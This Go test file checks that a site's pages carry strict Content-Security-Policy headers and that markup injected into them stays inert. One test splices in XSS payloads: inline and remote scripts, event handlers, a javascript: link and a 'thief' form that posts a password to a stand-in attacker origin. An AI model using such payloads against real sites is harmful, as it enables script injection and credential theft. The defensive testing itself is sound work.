package browsertest

import (
	"bytes"
	"net/http"
	"regexp"
	"slices"
	"strings"
	"testing"
)

var nonceOf = regexp.MustCompile(`'nonce-([^']+)'`)

// Every page says the strictest policy under which it works, and keeps to it:
// nothing is violated and nobody else is contacted, which every tab of every
// test watches for. No answer has the nonce of another.
//
// Rows: 52, 54, 55, 69, 246
func TestPagesKeepToTheirPolicy(t *testing.T) {
	nonces := make(map[string]string)
	walk(t, inChromium(t), "en", func(t *testing.T, s *site, b *tab, st state) {
		header := s.lastPage().answer.header
		policy := strings.Split(header.Get("Content-Security-Policy"), "; ")
		for _, want := range []string{"default-src 'none'", "object-src 'none'", "base-uri 'none'", "frame-ancestors 'none'", "form-action 'self'", "style-src 'self'"} {
			if !slices.Contains(policy, want) {
				t.Errorf("the policy %q does not say %s", policy, want)
			}
		}
		for name, want := range map[string]string{"Cross-Origin-Opener-Policy": "same-origin", "Referrer-Policy": "same-origin",
			"Cache-Control": "no-store", "X-Content-Type-Options": "nosniff"} {
			if got := header.Get(name); got != want {
				t.Errorf("%s: %q, want %q", name, got, want)
			}
		}
		if m := nonceOf.FindStringSubmatch(header.Get("Content-Security-Policy")); m != nil {
			if other, known := nonces[m[1]]; known {
				t.Errorf("the nonce is that of %s", other)
			}
			nonces[m[1]] = st.name
		}
		// What the policy stops is not even there.
		if n := eval[int](b, `document.querySelectorAll("style, [style], script:not([src]), base, object, embed, iframe").length`); n > 0 {
			t.Errorf("%d elements that a policy is there to stop", n)
		}
		if n := eval[int](b, `[...document.querySelectorAll("*")].flatMap((e) => e.getAttributeNames()).filter((n) => n.startsWith("on")).length`); n > 0 {
			t.Errorf("%d handlers in attributes", n)
		}
	})
	if len(nonces) < 10 {
		t.Errorf("saw only %d nonces", len(nonces))
	}
}

// Markup that somebody manages to put into a page does nothing: it runs no
// script, changes no look, loads nothing, and sends nothing anywhere.
//
// Rows: 52
func TestInjectedMarkupDoesNothing(t *testing.T) {
	inBoth(t, func(t *testing.T, in *browser) {
		for _, path := range []string{"/auth/signin", "/auth/devices", "/auth/renew?return_to=%2Freport"} {
			t.Run(path, func(t *testing.T) {
				s := newSite(t)
				b := s.newTab(t, in)
				b.provoked = true
				b.signIn("ada")
				evil := s.stranger.origin
				markup := `<base href="` + evil + `/">` +
					`<script>window.ran = "inline"</script>` +
					`<script nonce="">window.ran = "empty nonce"</script>` +
					`<script src="` + evil + `/x.js"></script>` +
					`<script type="module">window.ran = "module"</script>` +
					`<img src="` + evil + `/x.png" onerror="window.ran = 'handler'">` +
					`<svg onload="window.ran = 'svg'"></svg>` +
					`<style>main { display: none !important }</style>` +
					`<link rel="stylesheet" href="` + evil + `/x.css">` +
					`<iframe src="` + evil + `/frame" srcdoc="<script>parent.ran = 'srcdoc'</script>"></iframe>` +
					`<object data="` + evil + `/object"></object>` +
					`<a id="js" href="javascript:window.ran='link'">x</a>` +
					`<form id="thief" method="post" action="` + evil + `/take"><input name="password" value="typed"><button id="give">x</button></form>`
				s.altered(func(r *http.Request, a *answer) {
					if strings.HasPrefix(a.header.Get("Content-Type"), "text/html") {
						a.body = bytes.Replace(a.body, []byte("<main"), []byte(markup+"<main"), 1)
						a.header.Del("Content-Length")
					}
				})
				if path == "/auth/signin" {
					path = "/auth/signin?switch=1"
				}
				if strings.HasPrefix(path, "/auth/renew") {
					b.withoutScript() // or it goes on before it can be looked at
				}
				b.open(path)
				if !b.has("#js") {
					t.Fatal("nothing was injected")
				}
				b.withScript()
				eval[any](b, `document.getElementById("js").click()`)
				eval[any](b, `document.getElementById("give").click()`)
				// As a script on the page would do it that came some other way.
				eval[any](b, `{ const s = document.createElement("script"); s.textContent = "window.ran = 'inserted'"; document.body.append(s); }`)
				eval[any](b, `document.body.insertAdjacentHTML("beforeend", "<img src=data:, onerror=\"window.ran = 'inserted handler'\">")`)
				b.await(`new Promise((done) => setTimeout(() => done(true), 50))`)
				if ran := eval[string](b, `String(window.ran)`); ran != "undefined" {
					t.Errorf("%s ran", ran)
				}
				if eval[string](b, `getComputedStyle(document.querySelector("main")).display`) == "none" {
					t.Error("the injected style applies")
				}
				if n := s.stranger.visits(); n > 0 {
					t.Errorf("the other site was contacted %d times", n)
				}
				if n := len(b.violated()); n < 5 {
					t.Errorf("only %d violations; the test proves nothing", n)
				}
			})
		}
	})
}

// visits counts what the stranger was asked for, its own pages aside.
func (s *stranger) visits() int {
	s.mu.Lock()
	defer s.mu.Unlock()
	return len(s.seen)
}
